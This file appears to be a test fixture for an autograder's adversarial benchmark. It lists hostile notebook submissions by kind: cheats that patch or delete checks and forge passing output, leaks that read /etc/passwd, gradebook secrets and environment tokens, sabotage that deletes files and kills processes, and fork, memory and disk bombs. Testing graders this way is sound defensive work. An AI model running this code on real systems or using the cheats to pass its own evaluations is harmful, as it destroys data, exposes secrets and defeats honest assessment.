"""Hostile code for `benchmarks/adversary.py`: a name, a kind, what is done, and the checks it should lose.

`cells` replaces solution cells; `spoil(notebook, file)` changes the notebook (a dict), returns the bytes of
the file, or writes something else at its place and returns None. ROOT and MARK are filled in.
Damaged files and unusual right answers are in `attacks_files.py`.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field

EXPECTED = {"expected-loss/course", "expected-loss/any", "expected-loss/one"}
VERDICT = {f"start-verdict/{name}" for name in ("healthy", "high", "low", "nan")}
BANDS = VERDICT - {"start-verdict/nan"}  # those that need the ruler
INIT = {f"init-weights/{name}" for name in ("matrices", "residual", "gains", "biases")}
MEAN = {f"masked-mean/{name}" for name in ("full", "padding", "empty", "leak", "gradient")}
ALL = EXPECTED | VERDICT | INIT | MEAN


@dataclass(frozen=True)
class Attack:
    """One submission."""

    name: str
    kind: str
    cells: dict[str, str] = field(default_factory=dict)
    lost: frozenset[str] | set[str] = frozenset()
    spoil: Callable | None = None


def mean(body: str, lost: set[str] = MEAN) -> dict:
    lines = "\n    ".join(body.splitlines())
    return {"cells": {"masked-mean": f"def masked_mean(losses, mask):\n    {lines}\n"}, "lost": lost}


def at_once(code: str) -> str:
    """Code that runs as soon as its cell does: of loose statements only those run that an answer uses."""
    return "class _Now:\n" + "".join(f"    {line}\n" for line in code.splitlines())


def _init(before: str, body: str = "pass") -> dict:
    before = at_once(before) if before else ""
    return {
        "cells": {"init-weights": f"{before}\ndef init_weights(model, config):\n    {body}\n"},
        "lost": INIT,
    }


def _leak(expression: str) -> dict:
    """Say what was found in an error, a print and a returned string; refused access says nothing."""
    return mean(
        f"import os, sys, gc\ntry:\n    found = {expression}\nexcept BaseException:\n    found = None\n"
        "if found:\n    print('LEAK', found)\n    raise RuntimeError('LEAK ' + str(found)[:80])\nreturn 'nothing'"
    )


def cells_of(change: Callable) -> Callable:
    def spoil(notebook: dict, file: object) -> dict:
        cells = []
        for cell in notebook["cells"]:
            cells += change(cell)
        return notebook | {"cells": cells}

    return spoil


def is_check(cell: dict) -> bool:
    return bool(cell["metadata"].get("nbgrader", {}).get("locked"))


def _edited_checks(cell: dict) -> list[dict]:
    return [cell | {"source": "print('✓')"} if is_check(cell) else cell]


def _rich_checks(cell: dict) -> list[dict]:
    if is_check(cell):
        cell["metadata"]["nbgrader"]["points"] = 1000
    return [cell]


def _tagged(cell: dict) -> list[dict]:
    cell["metadata"]["tags"] = ["skip-execution", "raises-exception"]
    return [cell]


ALWAYS = """class Yes(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return False
    def __float__(self): return 6.238
    __hash__ = None
def expected_loss(vocab_size):
    return Yes(7.5)
"""
FORGE = """import os, struct, json
text = json.dumps(["dict", {"outcome": ["dict", {"output": ["dict", {"value": 1.0}], "printed": ""}]}]).encode()
for fd in range(64):
    try: os.write(fd, (struct.pack(">II", len(text), 0) + text) * 50)
    except OSError: pass
os._exit(0)"""
PATCHED = """import torch, sys
class _T: pass
torch.Tensor.std = lambda self, *a, **k: torch.tensor(0.02)
torch.Tensor.mean = lambda self, *a, **k: torch.tensor(0.0)
torch.equal = lambda a, b: False
for module in list(sys.modules.values()):
    for name in ("close", "judge", "number", "require_plain", "run_probe", "run_check", "all_finite"):
        if hasattr(module, name):
            try: setattr(module, name, lambda *a, **k: True)
            except Exception: pass
"""
DAEMON = """import os, subprocess
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "MARK"])
    os._exit(0)
return 'left'"""
KILL = """import os, signal
for pid in (os.getppid(), 1, -1):
    try: os.kill(pid, signal.SIGKILL)
    except OSError: pass
return 'killed'"""
DESTROY = """import os, shutil
shutil.rmtree("ROOT", ignore_errors=True)
for file in ("ROOT/gradebook.db", "ROOT/hacked", "ROOT/submitted/aaa-first/hacked"):
    try: open(file, "w").write("hacked")
    except OSError: pass
return 'destroyed'"""
FRAMES = """import sys
frame, found = sys._getframe(), None
while frame:
    case = frame.f_locals.get("case") or {}
    if isinstance(case, dict) and "expected" in case: found = case["expected"]
    frame = frame.f_back
return found"""
STUBBORN = """import signal
for number in range(1, 64):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
while True: pass"""
THREADS = (
    "import threading, time\nwhile True: threading.Thread(target=time.sleep, args=(99,), daemon=True).start()"
)

# ruff: noqa: E501 (an attack reads best on one line)

CODE = [
    # cheats
    Attack("always-equal", "cheat", {"expected-loss": ALWAYS}, EXPECTED | BANDS),
    Attack("patch-everything", "cheat", **_init(PATCHED)),
    Attack("patch-inside-call", "cheat", **_init("", "exec(" + repr(PATCHED) + ")")),
    Attack("forge-frames", "cheat", **mean(FORGE)),
    Attack("forge-frames-at-import", "cheat", {"masked-mean": FORGE}, MEAN),
    Attack("exit-zero", "cheat", {"masked-mean": "import sys\nsys.exit(0)"}, MEAN),
    Attack("os-exit-zero", "cheat", {"masked-mean": "import os\nos._exit(0)"}, MEAN),
    Attack("exit-in-call", "cheat", **mean("raise SystemExit(0)")),
    Attack("print-a-green-line", "cheat", **mean("print('\\x1b[32m✓ passed\\x1b[0m')")),
    Attack("return-a-key", "cheat", **mean("return {'key': None, 'passed': True, 'output': 0}")),
    Attack("dict-that-passes", "cheat", **mean("return {'value': 1.0}")),
    Attack(
        "own-repr-and-class",
        "cheat",
        **mean(
            "class T:\n    __class__ = float\n    def __repr__(self): return '1.0'\n    def __str__(self): return '1.0'\n"
            "return T()"
        ),
    ),
    Attack(
        "read-the-frames",
        "cheat",
        {
            "start-verdict": "def start_verdict(loss, vocab_size):\n    "
            + "\n    ".join(FRAMES.splitlines())
            + "\n"
        },
        VERDICT,
    ),
    Attack(
        "hard-coded-visible-cases",
        "cheat",
        {
            "expected-loss": "def expected_loss(v):\n    return {512: 6.238324625, 50257: 10.8249, 1: 0.0}.get(v, 3.0)"
        },
        {"expected-loss/any"} | BANDS,
    ),
    Attack("edited-checks", "cheat", {"masked-mean": "masked_mean = 7"}, MEAN, cells_of(_edited_checks)),
    Attack(
        "deleted-checks",
        "cheat",
        {"masked-mean": "masked_mean = 7"},
        MEAN,
        cells_of(lambda cell: [] if is_check(cell) else [cell]),
    ),
    Attack("points-of-my-own", "cheat", {"masked-mean": "masked_mean = 7"}, MEAN, cells_of(_rich_checks)),
    Attack("tagged-cells", "cheat", {"masked-mean": "masked_mean = 7"}, MEAN, cells_of(_tagged)),
    Attack(
        "replace-the-checker",
        "cheat",
        **_init(
            "import sys, course.notebook, course.judging\ncourse.notebook.check = lambda *a: None\n"
            "sys.modules['course.judging'].judge = lambda *a: None\nsys.modules['course.grade.wire'] = None"
        ),
    ),
    Attack(
        "late-thread",
        "cheat",
        **_init(
            "import threading, builtins\nthreading.Thread(target=lambda: setattr(builtins, 'abs', lambda x: 0)).start()"
        ),
    ),
    Attack("stop-the-clock", "cheat", **mean("import time\ntime.monotonic = lambda: 0\nwhile True: pass")),
    # leaks
    Attack("find-solutions", "leak", **_leak("[d for d, _, _ in os.walk('/') if '18-01-did-it-start' in d]")),
    Attack("list-the-class", "leak", **_leak("os.listdir('ROOT')")),
    Attack(
        "read-a-neighbour",
        "leak",
        **_leak("open('ROOT/submitted/aaa-first/18-01-did-it-start/did-it-start.ipynb').read()"),
    ),
    Attack("read-the-gradebook", "leak", **_leak("open('ROOT/gradebook.db', 'rb').read(99)")),
    Attack("read-the-secret", "leak", **_leak("open('ROOT/gradebook-secret.txt').read()")),
    Attack(
        "find-checks",
        "leak",
        **_leak(
            "[d for d, _, _ in os.walk(__import__('minigpt').__path__[0] + '/../course') if d.endswith('/checks')]"
        ),
    ),
    Attack(
        "judge-in-memory",
        "leak",
        **_leak(
            "[o for o in gc.get_objects() if getattr(o, '__name__', '') in ('judge', '_mean_slip') and "
            "'judging' not in str(getattr(o, '__module__', '')) and 'course.check' != getattr(o, '__module__', '')]"
        ),
    ),
    Attack(
        "expected-in-memory",
        "leak",
        **_leak("[o for o in gc.get_objects() if type(o) is dict and 'expected' in o and 'delta' in o]"),
    ),
    Attack(
        "environment",
        "leak",
        **_leak("[k for k in os.environ if 'TOKEN' in k or 'KEY' in k or 'COURSE' in k]"),
    ),
    Attack("other-processes", "leak", **_leak("[p for p in os.listdir('/proc') if p.isdigit()]")),
    Attack("password-file", "leak", **_leak("open('/etc/passwd').read()")),
    Attack("network", "leak", **_leak("__import__('socket').create_connection(('127.0.0.1', 22), 1)")),
    Attack("local-socket", "leak", **_leak("__import__('socket').socket(1).bind('/tmp/s') or 1")),
    Attack(
        "trace-the-parent",
        "leak",
        **_leak("__import__('ctypes').CDLL(None).ptrace(16, os.getppid(), 0, 0) == 0"),
    ),
    Attack("new-namespace", "leak", **_leak("__import__('ctypes').CDLL(None).unshare(0x10000000) == 0")),
    # sabotage
    Attack("destroy-files", "sabotage", **mean(DESTROY)),
    Attack("kill-the-parent", "sabotage", **mean(KILL)),
    Attack("leave-a-daemon", "sabotage", **mean(DAEMON)),
    Attack("stop-myself", "sabotage", **mean("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)")),
    Attack(
        "error-with-teeth",
        "sabotage",
        **mean("class E(BaseException):\n    def __str__(self): raise SystemExit(3)\nraise E"),
    ),
    Attack(
        "page-with-script",
        "sabotage",
        **mean("print('<script>alert(1)</script>')\nraise ValueError('<img src=x>')"),
    ),
    # bombs
    Attack("endless-loop", "bomb", **mean("while True: pass")),
    Attack("endless-cell", "bomb", {"masked-mean": "while True: pass"}, MEAN),
    Attack("endless-and-deaf", "bomb", **mean(STUBBORN)),
    Attack("sleep", "bomb", **mean("import time\ntime.sleep(10**6)")),
    Attack("all-memory", "bomb", **mean("x = []\nwhile True: x.append(bytearray(10**8))")),
    Attack("huge-tensor", "bomb", **mean("return torch.ones(10**12)")),
    Attack(
        "fork-bomb", "bomb", **mean("import os\nwhile True:\n    try: os.fork()\n    except OSError: pass")
    ),
    Attack("thread-bomb", "bomb", **mean(THREADS)),
    Attack("flood-of-prints", "bomb", **mean("while True: print('x' * 10**6)")),
    Attack("flood-of-raw-output", "bomb", **mean("import os\nwhile True: os.write(1, b'x' * 10**6)")),
    Attack(
        "full-disk",
        "bomb",
        **mean("n = 0\nwhile True:\n    open(f'/tmp/{n}', 'wb').write(b'x' * 10**7)\n    n += 1"),
    ),
    Attack(
        "many-files", "bomb", **mean("n = 0\nwhile True:\n    open(f'/tmp/{n}', 'w').close()\n    n += 1")
    ),
    Attack("open-files", "bomb", **mean("x = []\nwhile True: x.append(open('/dev/null'))")),
    Attack("recursion", "bomb", **mean("return masked_mean(losses, mask)")),
    Attack("deep-answer", "bomb", **mean("x = []\nfor _ in range(10**5): x = [x]\nreturn x")),
    Attack("wide-answer", "bomb", **mean("return list(range(10**7))")),
    Attack("long-text", "bomb", **mean("return 'x' * 10**8")),
    Attack("big-integer", "bomb", **mean("return 10**100000")),
    Attack("crash", "bomb", **mean("import ctypes\nctypes.string_at(0)")),
]
